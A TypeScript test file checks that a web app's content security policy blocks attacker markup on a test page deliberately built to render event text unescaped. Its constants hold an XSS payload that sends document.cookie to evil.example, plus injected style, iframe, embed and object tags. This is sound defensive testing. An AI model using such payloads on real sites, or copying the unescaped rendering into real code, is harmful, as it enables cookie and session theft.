/**
 * Tests a page that prints an attacker's markup by mistake. The page's content security policy must prevent
 * any effect of the markup.
 */
import { createHash } from 'node:crypto'
import { createElement } from 'react'
import type { RouterContextProvider } from 'react-router'
import { describe, expect, test } from 'vitest'
import { getEvent } from '#domain/booking/contract/event.ts'
import { makeEvent } from '#test/support/factories.ts'
import { openTestApp } from '#test/support/open-test-app.ts'
import * as events from '#app/public/events/events.tsx'
import * as root from '#app/root.tsx'
import { callContext } from '#app/server-context.ts'
import { eventPages, loadPages } from '../support/server/real-pages.ts'

const STEAL = 'fetch("https://evil.example/" + document.cookie)'
const INJECTED = `<script>${STEAL}</script><script type="module" async="">${STEAL};</script>
<script nonce="" >${STEAL}//</script><style>body{display:none}</style>
<iframe src="https://evil.example/a.pdf"></iframe><embed src="https://evil.example/b.pdf"><object data="https://evil.example/c"></object>`

/** A page with a deliberate bug: it prints an event's text without escaping it. */
const careless = {
  handle: { cacheBy: [] },
  async loader({ context, params }: { context: RouterContextProvider; params: { urlName: string } }) {
    const found = await context.get(callContext)(getEvent, { query: { eventUrlName: params.urlName } })
    return found.ok && !found.data.locked ? found.data.longDescription : null
  },
  default: ({ loaderData }: { loaderData: string }) =>
    createElement('div', { dangerouslySetInnerHTML: { __html: loaderData } }),
}

const loadBuild = loadPages({
  root,
  'careless/:urlName': careless,
  events,
  ...eventPages,
})
const app = await openTestApp({ now: new Date('2027-05-06T18:00:00Z'), parts: { loadBuild } })
const { db } = app.services
await makeEvent(db, { urlName: 'bad', longDescription: INJECTED })
await makeEvent(db, {
  urlName: 'guided',
  pdfLink: 'https://files.example/guide.pdf?x=1',
  longDescription: INJECTED,
})
await makeEvent(db, { urlName: 'own-guide', pdfLink: '/documents/guide.pdf' })
await makeEvent(db, { urlName: 'hidden', password: 'Yucca', pdfLink: 'https://hidden.example/guide.pdf' })

async function load(path: string) {
  const response = await app.request(path)
  expect(response.status).toBe(200)
  const policy = response.headers.get('content-security-policy') ?? ''
  const sourcesOf = (name: string) =>
    policy
      .split('; ')
      .find((directive) => directive.startsWith(`${name} `))
      ?.split(' ')
      .slice(1)
  return {
    html: await response.text(),
    policy,
    sourcesOf,
    kept: response.headers.get('cache-control') !== 'no-store',
  }
}

const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

describe('a page with markup that an attacker has injected', () => {
  test('runs and loads none of the injected scripts, styles and frames, on a fresh or a cached page', async () => {
    for (const isKept of [false, true]) {
      const { html, policy, sourcesOf, kept } = await load('/careless/bad')
      expect(kept || !isKept).toBe(true)
      expect(html).toContain(INJECTED)
      for (const dead of [STEAL, `${STEAL};`, `${STEAL}//`, 'body{display:none}'])
        expect(policy).not.toContain(hashOf(dead))
      expect(policy).not.toContain('evil.example')
      expect(sourcesOf('style-src')).toEqual(["'self'"])
      expect(sourcesOf('frame-src')).toEqual(["'self'"])
      expect(sourcesOf('object-src')).toEqual(["'none'"])
    }
  })

  test("still allows the page's own scripts next to injected markup", async () => {
    const { html, sourcesOf } = await load('/careless/bad')
    const all = [...html.replace(INJECTED, '').matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)]
    const hashes = all.map(([, code = '']) => hashOf(code))
    expect(hashes.length).toBeGreaterThan(3)
    expect(sourcesOf('script-src')).toEqual(["'self'", ...new Set(hashes)])
  })
})

test('leaves no nonce for scripts in any page', async () => {
  for (const path of ['/careless/bad', '/events', '/event/guided'])
    expect((await load(path)).html.replace(INJECTED, '')).not.toMatch(/ nonce="[^"]/)
})

test('allows in the content policy the scripts of a page that loads React at the visitor’s first touch', async () => {
  const { html, sourcesOf } = await load('/events')
  const scripts = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)]
  const late = scripts.map(([, code = '']) => code).find((code) => code.includes('window.loadPage = ')) ?? ''
  expect(late).not.toBe('')
  expect(sourcesOf('script-src')).toContain(hashOf(late))
})

test.each([
  ['bad', ["'self'"]],
  ['guided', ["'self'", 'https://files.example']],
  ['own-guide', ["'self'"]],
  ['hidden', ["'self'"]],
])('allows frames on the page of the event "%s" only from: %s', async (urlName, sources) => {
  expect((await load(`/event/${urlName}`)).sourcesOf('frame-src')).toEqual(sources)
})
